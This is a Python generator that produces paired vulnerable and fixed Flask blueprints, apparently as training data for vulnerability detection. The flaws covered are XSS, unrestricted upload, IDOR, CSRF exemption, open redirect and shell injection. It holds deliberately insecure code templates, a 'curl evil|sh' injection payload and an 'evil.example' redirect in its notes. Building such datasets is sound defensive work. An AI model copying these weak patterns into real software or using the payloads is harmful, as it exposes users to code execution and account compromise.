"""Train-only whole-module Flask families (libs19 set, mod19-*): Flask blueprints of about 90-140 lines
(Flask-Login, Flask-WTF forms, Flask-SQLAlchemy models scoped to the current user) for applications no
other family uses: a fleet maintenance log, a makerspace booking tool, a podcast host, a grant
application portal, a pet adoption site and a lab sample tracker. Each weak module holds exactly one
weak statement among many safe routes, and its twin the minimal fix:

- CWE-79: one ``Markup`` built by f-string / concatenation around user-entered text (a flashed
  confirmation, a template filter chip, an nl2br helper); the fix uses ``Markup(...).format`` / ``escape``.
- CWE-434: an attachment saved with ``secure_filename`` but no extension allow-list into the static
  folder (``.html`` / ``.svg`` served from the app's origin); the fix adds the allow-list.
- CWE-639: one route loads the record by primary key alone; the fix scopes it to ``current_user``.
- CWE-352: one cookie-authenticated POST route decorated with ``@csrf.exempt``; the fix drops it.
- CWE-601: the logout route redirects to ``next`` unchecked while login checks it; the fix reuses the check.
- CWE-78: an export route runs a converter through ``shell=True`` with the user-chosen format; the fix
  allow-lists the format and passes an argument list.

Each family also has a ``@hardneg(10)`` builder of SAFE blueprints dense with the same idioms used
correctly. Written without reading the held-out or validation families; every family here goes to train.
"""

import scenarios.train_modules_safe_web as _web
from core import Spec
from registry import fam, hardneg
from scenarios.train_modules_safe_web import P, fill  # noqa: F401

_STDLIB = _web._STDLIB | {"csv", "fnmatch", "glob", "io", "mimetypes", "pickle", "platform", "posixpath", "queue",
                          "shlex", "shutil", "ssl", "stat", "subprocess", "tempfile", "tomllib", "wsgiref", "zlib"}
compose, pair = _web.with_stdlib(_STDLIB)


# ---------------- applications ----------------

_APPS = {
    "fleet": dict(Model="ServiceEntry", w="entry", ws="entries", bp="maintenance", Form="ServiceEntryForm",
                  title="description", notes="work_notes", owner="owner_id", when="serviced_on",
                  App="Fleet maintenance log", status="state", provider="telematics"),
    "maker": dict(Model="Booking", w="booking", ws="bookings", bp="bookings", Form="BookingForm",
                  title="purpose", notes="safety_notes", owner="member_id", when="starts_at",
                  App="Makerspace booking tool", status="status", provider="door-controller"),
    "podcast": dict(Model="Episode", w="episode", ws="episodes", bp="episodes", Form="EpisodeForm",
                    title="title", notes="show_notes", owner="host_id", when="published_at",
                    App="Podcast host", status="status", provider="transcoder"),
    "grant": dict(Model="Proposal", w="proposal", ws="proposals", bp="proposals", Form="ProposalForm",
                  title="title", notes="abstract", owner="applicant_id", when="submitted_at",
                  App="Grant application portal", status="stage", provider="review-board"),
    "pets": dict(Model="AdoptionRequest", w="request", ws="requests", bp="adoptions", Form="AdoptionForm",
                 title="pet_name", notes="home_description", owner="adopter_id", when="created_at",
                 App="Pet adoption site", status="status", provider="shelter-sync"),
    "lab": dict(Model="Sample", w="sample", ws="samples", bp="samples", Form="SampleForm",
                title="label", notes="handling_notes", owner="owner_id", when="collected_at",
                App="Lab sample tracker", status="state", provider="lims"),
}


def _kw(c):
    key = c.pick(*_APPS)
    kw = dict(_APPS[key])
    kw["per"] = c.pick(20, 25, 30, 50)
    kw["log"] = c.pick("log", "logger")
    kw["app"] = key
    return kw


def _frame(c):
    imp = """
        import logging
        from flask import Blueprint, abort, current_app, flash, jsonify, redirect, render_template, request, url_for
        from flask_login import current_user, login_required
        from ..extensions import csrf, db
        from ..forms import $Form
        from ..models import $Model
    """
    return P("frame", rank=0, imp=imp,
             setup='bp = Blueprint("$bp", __name__, url_prefix="/$bp"' + c.pick("", ', template_folder="templates"') + ')\n'
                   "PER_PAGE = $per")


def _owned(c):
    shape = c.pick("filter_by", "db_first", "get_check")
    if shape == "filter_by":
        body = '''
            def _owned_or_404(item_id: int) -> $Model:
                """The current user's $w with this id; another user's id answers 404 like a missing one."""
                return $Model.query.filter_by(id=item_id, $owner=current_user.id).first_or_404()
        '''
    elif shape == "db_first":
        body = '''
            def _owned_or_404(item_id: int) -> $Model:
                """The current user's $w with this id, or 404."""
                stmt = db.select($Model).filter_by(id=item_id, $owner=current_user.id)
                return db.first_or_404(stmt)
        '''
    else:
        body = '''
            def _owned_or_404(item_id: int) -> $Model:
                """Load a $w by id and make sure it belongs to the signed-in user."""
                item = db.session.get($Model, item_id)
                if item is None or item.$owner != current_user.id:
                    abort(404)
                return item
        '''
    return P("owned", rank=1, body=body)


def _routes(c):
    """Safe routes every blueprint draws from (all scoped to current_user)."""
    idx = c.pick(
        '''
        @bp.get("/")
        @login_required
        def index():
            """The signed-in user's $ws, newest first."""
            page = request.args.get("page", 1, type=int)
            pagination = (
                $Model.query.filter_by($owner=current_user.id)
                .order_by($Model.$when.desc())
                .paginate(page=page, per_page=PER_PAGE, error_out=False)
            )
            return render_template("$bp/index.html", pagination=pagination)
        ''',
        '''
        @bp.route("/")
        @login_required
        def index():
            """List view; the status filter is matched against a fixed set."""
            wanted = request.args.get("$status")
            query = $Model.query.filter($Model.$owner == current_user.id)
            if wanted in STATUSES:
                query = query.filter($Model.$status == wanted)
            items = query.order_by($Model.$when.desc()).limit(PER_PAGE).all()
            return render_template("$bp/index.html", items=items, wanted=wanted)
        ''')
    parts = [
        P("index", rank=3, body=idx, const='STATUSES = ("draft", "open", "done")' if "STATUSES" in idx else ""),
        P("show", rank=3, needs=("owned",), body='''
            @bp.get("/<int:item_id>")
            @login_required
            def show(item_id: int):
                """One $w; the template autoescapes every field."""
                item = _owned_or_404(item_id)
                return render_template("$bp/show.html", item=item)
        '''),
        P("new", rank=3, body='''
            @bp.route("/new", methods=["GET", "POST"])
            @login_required
            def create():
                """Create a $w owned by the signed-in user."""
                form = $Form()
                if form.validate_on_submit():
                    item = $Model($owner=current_user.id)
                    form.populate_obj(item)
                    db.session.add(item)
                    db.session.commit()
                    $log.info("user %s created $w %s", current_user.id, item.id)
                    flash("Saved.", "success")
                    return redirect(url_for(".show", item_id=item.id))
                return render_template("$bp/form.html", form=form)
        '''),
        P("edit", rank=3, needs=("owned",), body='''
            @bp.route("/<int:item_id>/edit", methods=["GET", "POST"])
            @login_required
            def edit(item_id: int):
                item = _owned_or_404(item_id)
                form = $Form(obj=item)
                if form.validate_on_submit():
                    form.populate_obj(item)
                    item.$owner = current_user.id
                    db.session.commit()
                    flash("Changes saved.", "success")
                    return redirect(url_for(".show", item_id=item.id))
                return render_template("$bp/form.html", form=form, item=item)
        '''),
        P("delete", rank=3, needs=("owned",), body='''
            @bp.post("/<int:item_id>/delete")
            @login_required
            def delete(item_id: int):
                """Delete a $w (the form posts the CSRF token from the page)."""
                item = _owned_or_404(item_id)
                db.session.delete(item)
                db.session.commit()
                $log.info("user %s deleted $w %s", current_user.id, item_id)
                flash("Deleted.", "info")
                return redirect(url_for(".index"))
        '''),
        P("search", rank=3, body='''
            @bp.get("/search")
            @login_required
            def search():
                """Substring search over the user's own $ws; the ORM binds the pattern."""
                q = request.args.get("q", "").strip()[:80]
                items = []
                if q:
                    items = (
                        $Model.query.filter($Model.$owner == current_user.id, $Model.$title.ilike(f"%{q}%"))
                        .order_by($Model.$when.desc())
                        .limit(PER_PAGE)
                        .all()
                    )
                return render_template("$bp/search.html", q=q, items=items)
        '''),
        P("api", rank=3, body='''
            @bp.get("/api")
            @login_required
            def api_list():
                """JSON for the dashboard widget."""
                items = $Model.query.filter_by($owner=current_user.id).order_by($Model.id).limit(PER_PAGE).all()
                return jsonify([{"id": i.id, "$title": i.$title, "$status": i.$status} for i in items])
        '''),
        P("stats", rank=3, imp="from sqlalchemy import func", body='''
            @bp.get("/stats")
            @login_required
            def stats():
                """Counts per $status for the signed-in user."""
                rows = (
                    db.session.query($Model.$status, func.count($Model.id))
                    .filter($Model.$owner == current_user.id)
                    .group_by($Model.$status)
                    .all()
                )
                return jsonify({status: count for status, count in rows})
        '''),
        P("nl2br_safe", rank=1, imp="from markupsafe import Markup, escape", body='''
            @bp.app_template_filter("nl2br")
            def nl2br(text: str | None) -> Markup:
                """Line breaks as <br>; each line is escaped before the join."""
                return Markup("<br>\\n").join(escape(line) for line in (text or "").splitlines())
        '''),
    ]
    return parts


def _ctx_pool(c):
    return [_owned(c)] + _routes(c)


def _weak_pair(c, kw, weak, vfix, sfix, doc, extra_core=(), lo=88, hi=138, drop=()):
    pool = [p for p in _ctx_pool(c) if p.key not in drop]
    byk = {p.key: p for p in pool}
    core = [_frame(c), weak, byk["owned"], byk["index"], byk["show"]] + list(extra_core)
    core = list({p.key: p for p in core}.values())
    log = f'$log = logging.getLogger({c.pick("__name__", chr(34) + "$bp" + chr(34), chr(34) + "app.$bp" + chr(34))})'
    def sub(x):
        if isinstance(x, tuple):
            return tuple(sub(y) for y in x)
        for k in sorted(kw, key=len, reverse=True):
            x = x.replace("$" + k, str(kw[k]))
        return x
    return pair(c, doc, log, core, pool, kw, sub(vfix), sub(sfix), lo=lo, hi=hi)


def _docline(c):
    return c.pick("$App: the $ws blueprint (Flask-Login, Flask-WTF, Flask-SQLAlchemy).",
                  "$App - routes for the signed-in user's $ws.",
                  "Blueprint for $ws in the $App; every query is scoped to current_user.")


# ---------------- CWE-79 ----------------


def _xss_weak(c, kw):
    shape = c.pick("flash", "chip", "nl2br", "flash")
    if shape == "flash":
        part = P("weak", rank=3, imp="from markupsafe import Markup", body='''
            @bp.route("/quick-add", methods=["POST"])
            @login_required
            def quick_add():
                """The inline form on the list page; the confirmation links to the new $w."""
                form = $Form()
                if not form.validate_on_submit():
                    flash("Please fix the highlighted fields.", "error")
                    return redirect(url_for(".index"))
                item = $Model($owner=current_user.id)
                form.populate_obj(item)
                db.session.add(item)
                db.session.commit()
                link = url_for(".show", item_id=item.id)
                $FIX
                return redirect(url_for(".index"))
        ''')
        how = c.pick("f", "concat")
        if how == "f":
            vfix = 'flash(Markup(f\'Added <a href="{link}">{form.$title.data}</a>.\'), "success")  #@V'
        else:
            vfix = 'flash(Markup(\'Added <a href="\' + link + \'">\' + form.$title.data + "</a>."), "success")  #@V'
        sfix = 'flash(Markup(\'Added <a href="{}">{}</a>.\').format(link, form.$title.data), "success")'
        note = "a flashed Markup message embeds the submitted $title unescaped; Flask's session keeps the Markup type"
    elif shape == "chip":
        part = P("weak", rank=1, imp="from markupsafe import Markup", const='COLOURS = {"draft": "grey", "open": "blue", "done": "green"}',
                 body='''
            @bp.app_template_filter("$w_chip")
            def $w_chip(item: $Model) -> Markup:
                """The coloured chip shown next to a $w in lists, with the $title as tooltip."""
                colour = COLOURS.get(item.$status, "grey")
                $FIX
        ''')
        vfix = 'return Markup(f\'<span class="chip chip-{colour}" title="{item.$title}">{item.$status}</span>\')  #@V'
        sfix = 'return Markup(\'<span class="chip chip-{}" title="{}">{}</span>\').format(colour, item.$title, item.$status)'
        note = "the chip filter formats the stored $title into a Markup string, so a quote or tag in it reaches the page"
    else:
        part = P("weak", rank=1, imp="from markupsafe import Markup, escape", body='''
            @bp.app_template_filter("nl2br")
            def nl2br(text: str | None) -> Markup:
                """The $notes field with its line breaks kept."""
                $FIX
        ''')
        vfix = 'return Markup((text or "").replace("\\n", "<br>\\n"))  #@V'
        sfix = 'return Markup("<br>\\n").join(escape(line) for line in (text or "").splitlines())'
        note = "nl2br marks the raw $notes text safe after inserting <br>, so any HTML in it renders"
    return part, vfix, sfix, note


@fam("mod19-flask-blueprint-markup-user-text", "CWE-79", fws=["flask"], n=8, wrap=False)
def mod19_markup_user_text(c):
    kw = _kw(c)
    part, vfix, sfix, note = _xss_weak(c, kw)
    v, s = _weak_pair(c, kw, part, vfix, sfix, _docline(c), drop=("nl2br_safe",) if "nl2br" in part.body else ())
    return Spec(v=v, s=s, full=True, fw="flask",
                notes=fill(note, **kw) + "; the fix builds it with Markup(...).format / escape, which escape the value")


def _hn_parts(c, kw):
    """Look-alike SAFE parts for the hard negatives."""
    exts = c.pick('{".pdf", ".png", ".jpg", ".jpeg"}', '{".pdf", ".txt", ".csv"}', '{".png", ".jpg", ".webp", ".pdf"}')
    parts = [
        P("hn_flash", rank=3, imp="from markupsafe import Markup", body='''
            @bp.post("/<int:item_id>/archive")
            @login_required
            def archive(item_id: int):
                item = _owned_or_404(item_id)
                item.$status = "archived"
                db.session.commit()
                undo = url_for(".unarchive", item_id=item.id)
                flash(Markup('Archived <em>{}</em>. <a href="{}">Undo</a>').format(item.$title, undo), "info")
                return redirect(url_for(".index"))


            @bp.post("/<int:item_id>/unarchive")
            @login_required
            def unarchive(item_id: int):
                item = _owned_or_404(item_id)
                item.$status = "open"
                db.session.commit()
                return redirect(url_for(".show", item_id=item.id))
        ''', needs=("owned",)),
        P("hn_chip", rank=1, imp="from markupsafe import Markup", body='''
            @bp.app_template_filter("$w_chip")
            def $w_chip(item: $Model) -> Markup:
                """Status chip; Markup % escapes the arguments."""
                return Markup('<span class="chip" title="%s">%s</span>') % (item.$title, item.$status)
        '''),
        P("hn_upload", rank=3, needs=("owned",), imp="import os\nfrom werkzeug.utils import secure_filename",
          const=f"ALLOWED_EXTENSIONS = {exts}", body='''
            @bp.post("/<int:item_id>/attachment")
            @login_required
            def upload_attachment(item_id: int):
                """Store one attachment under static/attachments/<id>/; only allow-listed types."""
                item = _owned_or_404(item_id)
                upload = request.files.get("file")
                if upload is None or not upload.filename:
                    abort(400)
                filename = secure_filename(upload.filename)
                if os.path.splitext(filename)[1].lower() not in ALLOWED_EXTENSIONS:
                    abort(400, "unsupported file type")
                target_dir = os.path.join(current_app.static_folder, "attachments", str(item.id))
                os.makedirs(target_dir, exist_ok=True)
                upload.save(os.path.join(target_dir, filename))
                item.attachment = f"attachments/{item.id}/{filename}"
                db.session.commit()
                return redirect(url_for(".show", item_id=item.id))
        '''),
        P("hn_export", rank=3, imp="import os\nimport subprocess\nimport tempfile\nfrom pathlib import Path\nimport io\nimport csv\nfrom flask import send_file",
          const='EXPORT_FORMATS = {"xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", '
                '"ods": "application/vnd.oasis.opendocument.spreadsheet", "pdf": "application/pdf"}', body='''
            @bp.get("/export")
            @login_required
            def export():
                """Spreadsheet export via LibreOffice; the format is one of EXPORT_FORMATS."""
                fmt = request.args.get("format", "xlsx")
                if fmt not in EXPORT_FORMATS:
                    abort(400)
                rows = $Model.query.filter_by($owner=current_user.id).order_by($Model.$when).all()
                with tempfile.TemporaryDirectory() as workdir:
                    src = os.path.join(workdir, "$ws.csv")
                    with open(src, "w", newline="") as fh:
                        csv.writer(fh).writerows([(r.id, r.$title, r.$when) for r in rows])
                    subprocess.run(["soffice", "--headless", "--convert-to", fmt, "--outdir", workdir, src],
                                   check=True, capture_output=True, timeout=120)
                    data = Path(workdir, f"$ws.{fmt}").read_bytes()
                return send_file(io.BytesIO(data), mimetype=EXPORT_FORMATS[fmt], as_attachment=True,
                                 download_name=f"$ws.{fmt}")
        '''),
        P("hn_webhook", rank=3, imp="import hashlib\nimport hmac",
          body='''
            @bp.post("/hooks/$provider")
            @csrf.exempt
            def $provider_hook():
                """Server-to-server callback: no session cookie is used, the HMAC header authenticates it."""
                secret = current_app.config["$PROVIDER_WEBHOOK_SECRET"].encode()
                expected = hmac.new(secret, request.get_data(), hashlib.sha256).hexdigest()
                if not hmac.compare_digest(expected, request.headers.get("X-Signature", "")):
                    abort(403)
                payload = request.get_json(silent=True) or {}
                item = $Model.query.filter_by(external_ref=str(payload.get("ref", ""))).first()
                if item is not None:
                    item.$status = "synced"
                    db.session.commit()
                return "", 204
        '''),
        P("hn_dbget", rank=3, body='''
            @bp.get("/<int:item_id>.json")
            @login_required
            def show_json(item_id: int):
                item = db.session.get($Model, item_id)
                if item is None or item.$owner != current_user.id:
                    abort(404)
                return jsonify(id=item.id, $title=item.$title, $status=item.$status)
        '''),
        P("hn_logout", rank=2, imp="from urllib.parse import urlsplit\nfrom flask_login import logout_user", body='''
            def _is_safe_next(target: str | None) -> bool:
                """Only local paths: no scheme, no host, not protocol-relative."""
                if not target or "\\\\" in target:
                    return False
                parts = urlsplit(target)
                return not parts.scheme and not parts.netloc and target.startswith("/") and not target.startswith("//")


            @bp.post("/logout")
            @login_required
            def logout():
                target = request.form.get("next", "")
                logout_user()
                return redirect(target if _is_safe_next(target) else url_for(".index"))
        '''),
    ]
    return parts


def _hn(c, focus):
    kw = _kw(c)
    kw["PROVIDER"] = kw["provider"].upper().replace("-", "_")
    kw["provider"] = kw["provider"].replace("-", "_")
    pool = _ctx_pool(c) + _hn_parts(c, kw)
    byk = {p.key: p for p in pool}
    core = [_frame(c), byk[focus], byk["index"], byk["show"]]
    if c.pick(True, False):
        core.append(byk[c.pick("hn_flash", "hn_chip", "hn_upload", "hn_export", "hn_webhook", "hn_dbget", "hn_logout")])
    core = list({p.key: p for p in core}.values())
    log = f'$log = logging.getLogger({c.pick("__name__", chr(34) + "$bp" + chr(34))})'
    code = compose(c, _docline(c), log, core, pool, kw, lo=88, hi=140)
    return Spec(s=code, full=True, fw="flask",
                notes="owner-scoped queries, Markup.format / Markup % / escape, secure_filename with an extension "
                      "allow-list, argv-list subprocess with an allow-listed format, an HMAC-checked webhook "
                      "exempt from CSRF (no cookie auth), and a checked next URL: all safe")


@hardneg(10)
def mod19_markup_user_text_hn(c):
    return _hn(c, c.pick("hn_flash", "hn_chip", "nl2br_safe"))


# ---------------- CWE-434 ----------------


@fam("mod19-flask-blueprint-attachment-no-ext-allowlist", "CWE-434", fws=["flask"], n=8, wrap=False)
def mod19_attachment_no_allowlist(c):
    kw = _kw(c)
    src = c.pick('upload = request.files.get("attachment")  #@S', 'upload = form.attachment.data  #@S')
    formline = "" if src.startswith("upload = request") else (
        "form = AttachmentForm()\n    if not form.validate_on_submit():\n        abort(400)\n    ")
    exts = c.pick('{".pdf", ".png", ".jpg", ".jpeg"}', '{".pdf", ".txt", ".csv", ".xlsx"}', '{".png", ".jpg", ".webp"}')
    where = c.pick('os.path.join(current_app.static_folder, "attachments", str(item.id))',
                   'os.path.join(current_app.root_path, "static", "uploads", str(current_user.id))')
    rel = "attachments/{item.id}" if "attachments" in where else "uploads/{current_user.id}"
    body = (
        '@bp.post("/<int:item_id>/attachments")\n'
        '@login_required\n'
        'def add_attachment(item_id: int):\n'
        '    """Attach a file to a $w; it is served from the static folder."""\n'
        '    item = _owned_or_404(item_id)\n'
        f'    {formline}{src}\n'
        '    if upload is None or not upload.filename:\n'
        '        abort(400)\n'
        '    filename = secure_filename(upload.filename)\n'
        f'    target_dir = {where}\n'
        '    os.makedirs(target_dir, exist_ok=True)\n'
        '    $FIX\n'
        f'    item.attachment_url = url_for("static", filename=f"{rel}/{{filename}}")\n'
        '    db.session.commit()\n'
        '    $log.info("user %s attached %s to $w %s", current_user.id, filename, item.id)\n'
        '    return redirect(url_for(".show", item_id=item.id))\n')
    weak = P("weak", rank=3, needs=("owned",), body=body,
             imp="import os\nfrom werkzeug.utils import secure_filename" + ("\nfrom ..forms import AttachmentForm" if formline else ""))
    vfix = "upload.save(os.path.join(target_dir, filename))  #@V"
    sfix = (f"if os.path.splitext(filename)[1].lower() not in {exts}:\n        abort(400, \"unsupported file type\")\n"
            "    upload.save(os.path.join(target_dir, filename))")
    v, s = _weak_pair(c, kw, weak, vfix, sfix, _docline(c))
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="secure_filename stops path tricks but keeps any extension: an .html or .svg attachment saved "
                      "into the static folder is served from the app's origin (stored XSS, or a script if the "
                      "folder is executable); the fix allow-lists the extension before saving")


@hardneg(10)
def mod19_attachment_no_allowlist_hn(c):
    return _hn(c, "hn_upload")


# ---------------- CWE-639 ----------------


@fam("mod19-flask-blueprint-one-route-unscoped-get", "CWE-639", fws=["flask"], n=8, wrap=False)
def mod19_unscoped_get(c):
    kw = _kw(c)
    route = c.pick("json", "duplicate", "print", "toggle")
    load = c.pick("query_get", "filter_by", "session_get")
    if load == "query_get":
        vfix = ("item = $Model.query.get(item_id)  #@V", "if item is None:")
        sfix = ("item = $Model.query.filter_by(id=item_id, $owner=current_user.id).first()", "if item is None:")
    elif load == "session_get":
        vfix = ("item = db.session.get($Model, item_id)  #@V", "if item is None:  #@V")
        sfix = ("item = db.session.get($Model, item_id)", "if item is None or item.$owner != current_user.id:")
    else:
        vfix = ("item = $Model.query.filter_by(id=item_id).first()  #@V", "if item is None:")
        sfix = ("item = $Model.query.filter_by(id=item_id, $owner=current_user.id).first()", "if item is None:")
    head = {
        "json": '@bp.get("/<int:item_id>.json")\n@login_required\ndef show_json(item_id: int):\n    """One $w as JSON for the edit drawer."""',
        "duplicate": '@bp.post("/<int:item_id>/duplicate")\n@login_required\ndef duplicate(item_id: int):\n    """Copy a $w as a new draft."""',
        "print": '@bp.get("/<int:item_id>/print")\n@login_required\ndef print_view(item_id: int):\n    """Printer-friendly page of one $w."""',
        "toggle": '@bp.post("/<int:item_id>/toggle")\n@login_required\ndef toggle(item_id: int):\n    """Flip a $w between open and done."""',
    }[route]
    tail = {
        "json": '    return jsonify(id=item.id, $title=item.$title, $notes=item.$notes, $status=item.$status)',
        "duplicate": ('    copy = $Model($owner=current_user.id, $title=item.$title + " (copy)", $notes=item.$notes)\n'
                      '    db.session.add(copy)\n    db.session.commit()\n    return redirect(url_for(".edit", item_id=copy.id))'),
        "print": '    return render_template("$bp/print.html", item=item)',
        "toggle": ('    item.$status = "done" if item.$status != "done" else "open"\n    db.session.commit()\n'
                   '    return jsonify(id=item.id, $status=item.$status)'),
    }[route]
    body = head + "\n    $FIX\n    $FIX2\n        abort(404)\n" + tail + "\n"
    needs = ("owned", "edit") if route == "duplicate" else ("owned",)
    weak = P("weak", rank=3, needs=needs, body=body)
    v, s = _weak_pair(c, kw, weak, vfix, sfix, _docline(c))
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="every route loads through the owner-scoped helper except this one, which loads the record by "
                      "primary key alone: any signed-in user can read or change another user's record by id; the fix "
                      "scopes the lookup to current_user")


@hardneg(10)
def mod19_unscoped_get_hn(c):
    return _hn(c, c.pick("hn_dbget", "show", "edit"))


# ---------------- CWE-352 ----------------

_CSRF_ROUTES = {
    "cancel": '''
        @bp.post("/<int:item_id>/cancel")
        $FIX@login_required
        def cancel(item_id: int):
            """Cancel a $w from the calendar widget (fetch POST)."""
            item = _owned_or_404(item_id)
            item.$status = "cancelled"
            db.session.commit()
            $log.info("user %s cancelled $w %s", current_user.id, item.id)
            return jsonify(ok=True, id=item.id)
    ''',
    "share": '''
        @bp.post("/<int:item_id>/share")
        $FIX@login_required
        def share(item_id: int):
            """Grant another member read access to a $w by email."""
            item = _owned_or_404(item_id)
            email = (request.form.get("email") or "").strip().lower()
            member = User.query.filter_by(email=email).first()
            if member is None:
                abort(404)
            item.shared_with.append(member)
            db.session.commit()
            return jsonify(shared=member.id)
    ''',
    "reassign": '''
        @bp.route("/<int:item_id>/owner", methods=["POST"])
        $FIX@login_required
        def hand_over(item_id: int):
            """Hand a $w over to a colleague (the new owner sees it in their list)."""
            item = _owned_or_404(item_id)
            new_owner = request.form.get("user_id", type=int)
            if new_owner is None or db.session.get(User, new_owner) is None:
                abort(400)
            item.$owner = new_owner
            db.session.commit()
            return redirect(url_for(".index"))
    ''',
}


@fam("mod19-flask-blueprint-csrf-exempt-post", "CWE-352", fws=["flask"], n=8, wrap=False)
def mod19_csrf_exempt(c):
    kw = _kw(c)
    route = c.pick(*_CSRF_ROUTES)
    weak = P("weak", rank=3, needs=("owned",), imp="from ..models import User", body=_CSRF_ROUTES[route])
    v, s = _weak_pair(c, kw, weak, "@csrf.exempt  #@V\n", "", _docline(c))
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="CSRFProtect guards every POST except this one, exempted although it is authenticated by the "
                      "Flask-Login session cookie: another site can post the form in the victim's browser and the "
                      "state change runs; the fix removes @csrf.exempt (the widget sends the X-CSRFToken header)")


@hardneg(10)
def mod19_csrf_exempt_hn(c):
    return _hn(c, c.pick("hn_webhook", "delete", "hn_webhook"))


# ---------------- CWE-601 ----------------

_NEXT_CHECKS = [
    '''
    def _is_safe_next(target: str | None) -> bool:
        """Only local paths: no scheme, no host, not protocol-relative."""
        if not target or "\\\\" in target:
            return False
        parts = urlsplit(target)
        return not parts.scheme and not parts.netloc and target.startswith("/") and not target.startswith("//")
    ''',
    '''
    def _is_safe_next(target: str | None) -> bool:
        """True when ``target`` resolves to this host; "///host" and backslash forms are refused first."""
        if not target or "\\\\" in target or target.lstrip().startswith("//"):
            return False
        ref = urlsplit(request.host_url)
        test = urlsplit(urljoin(request.host_url, target))
        return test.scheme in ("http", "https") and ref.netloc == test.netloc
    ''',
]

_AUTH_ROUTES = '''
    @bp.route("/login", methods=["GET", "POST"])
    def login():
        form = LoginForm()
        if form.validate_on_submit():
            user = User.query.filter_by(email=form.email.data.strip().lower()).first()
            if user is None or not user.check_password(form.password.data):
                flash("Invalid email or password.", "error")
                return render_template("auth/login.html", form=form), 401
            login_user(user, remember=form.remember.data)
            target = request.args.get("next")
            return redirect(target if _is_safe_next(target) else url_for(".index"))
        return render_template("auth/login.html", form=form)


    __DECO__
    @login_required
    def logout():
        __SRC__
        logout_user()
        flash("Signed out.", "info")
        $FIX
'''


@fam("mod19-flask-blueprint-logout-next-redirect", "CWE-601", fws=["flask"], n=8, wrap=False)
def mod19_logout_next(c):
    kw = _kw(c)
    method = c.pick("get", "post")
    if method == "get":
        src, deco = 'target = request.args.get("next", "")  #@S', '@bp.get("/logout")'
    else:
        src = c.pick('target = request.form.get("next", "")  #@S', 'target = request.values.get("next") or ""  #@S')
        deco = c.pick('@bp.post("/logout")', '@bp.route("/logout", methods=["POST"])')
    from core import dedent
    body = dedent(c.pick(*_NEXT_CHECKS)) + "\n\n\n" + dedent(_AUTH_ROUTES).replace("__DECO__", deco).replace("__SRC__", src)
    weak = P("weak", rank=3, body=body,
             imp="from urllib.parse import urljoin, urlsplit\nfrom flask_login import login_user, logout_user\n"
                 "from ..forms import LoginForm\nfrom ..models import User")
    vfix = c.pick('return redirect(target or url_for(".login"))  #@V',
                  'return redirect(target if target else url_for(".login"))  #@V')
    sfix = 'return redirect(target if _is_safe_next(target) else url_for(".login"))'
    v, s = _weak_pair(c, kw, weak, vfix, sfix, _docline(c))
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="login checks next with _is_safe_next, but logout redirects to the next value as given: a "
                      "link to /logout?next=https://evil.example signs the user out onto a phishing page; the fix "
                      "applies the same check")


@hardneg(10)
def mod19_logout_next_hn(c):
    return _hn(c, "hn_logout")


# ---------------- CWE-78 ----------------

_EXPORT = '''
    @bp.get("/export")
    @login_required
    def export():
        """Download the signed-in user's $ws converted to an office format."""
        $FIX2
        rows = $Model.query.filter_by($owner=current_user.id).order_by($Model.$when).all()
        with tempfile.TemporaryDirectory() as workdir:
            __WRITE__
            $FIX
            data = Path(workdir, f"$ws.{fmt}").read_bytes()
        $log.info("user %s exported %d $ws as %s", current_user.id, len(rows), fmt)
        mimetype = EXPORT_FORMATS.get(fmt, "application/octet-stream")
        return send_file(io.BytesIO(data), mimetype=mimetype, as_attachment=True, download_name=f"$ws.{fmt}")
'''


@fam("mod19-flask-blueprint-export-format-shell", "CWE-78", fws=["flask"], n=8, wrap=False)
def mod19_export_shell(c):
    kw = _kw(c)
    tool = c.pick("soffice", "pandoc")
    src = c.pick('fmt = request.args.get("format", "$dflt")', 'fmt = request.args.get("fmt", "$dflt").lower()')
    if tool == "soffice":
        kw["dflt"] = "xlsx"
        const = ('EXPORT_FORMATS = {"xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", '
                 '"ods": "application/vnd.oasis.opendocument.spreadsheet", "pdf": "application/pdf"}')
        write = ('src = os.path.join(workdir, "$ws.csv")\n'
                 '        with open(src, "w", newline="") as fh:\n'
                 '            writer = csv.writer(fh)\n'
                 '            writer.writerow(["id", "$title", "$when"])\n'
                 '            writer.writerows((r.id, r.$title, r.$when) for r in rows)')
        vrun = c.pick('subprocess.run(f"soffice --headless --convert-to {fmt} --outdir {workdir} {src}", shell=True, check=True, timeout=120)  #@V',
                      'cmd = f"soffice --headless --convert-to {fmt} --outdir {workdir} {src}"  #@V\n        subprocess.run(cmd, shell=True, check=True, capture_output=True)  #@V')
        srun = 'subprocess.run(["soffice", "--headless", "--convert-to", fmt, "--outdir", workdir, src], check=True, timeout=120)'
        imp = "import csv"
    else:
        kw["dflt"] = "docx"
        const = ('EXPORT_FORMATS = {"docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document", '
                 '"odt": "application/vnd.oasis.opendocument.text", "html": "text/html"}')
        write = ('src = os.path.join(workdir, "$ws.md")\n'
                 '        with open(src, "w", encoding="utf-8") as fh:\n'
                 '            for r in rows:\n'
                 '                fh.write(f"## {r.$title}\\n\\n{r.$notes or \'\'}\\n\\n")')
        vrun = c.pick('subprocess.run(f"pandoc {src} -o {workdir}/$ws.{fmt}", shell=True, check=True)  #@V',
                      'subprocess.check_call(f"pandoc -s {src} -o {workdir}/$ws.{fmt}", shell=True)  #@V')
        srun = 'subprocess.run(["pandoc", src, "-o", os.path.join(workdir, f"$ws.{fmt}")], check=True)'
        imp = ""
    from core import dedent
    weak = P("weak", rank=3, const=const, body=dedent(_EXPORT).replace("__WRITE__", write),
             imp="import io\nimport os\nimport subprocess\nimport tempfile\nfrom pathlib import Path\nfrom flask import send_file\n" + imp)
    vsrc = src + "  #@S"
    ssrc = src + "\n    if fmt not in EXPORT_FORMATS:\n        abort(400)"
    v, s = _weak_pair(c, kw, weak, (vrun, vsrc), (srun, ssrc), _docline(c))
    return Spec(v=v, s=s, full=True, fw="flask",
                notes="the export route formats the user-chosen format into a shell command line (shell=True): "
                      "?format=pdf;curl evil|sh runs commands as the web user; the fix allow-lists the format and "
                      "passes an argument list without a shell")


@hardneg(10)
def mod19_export_shell_hn(c):
    return _hn(c, "hn_export")
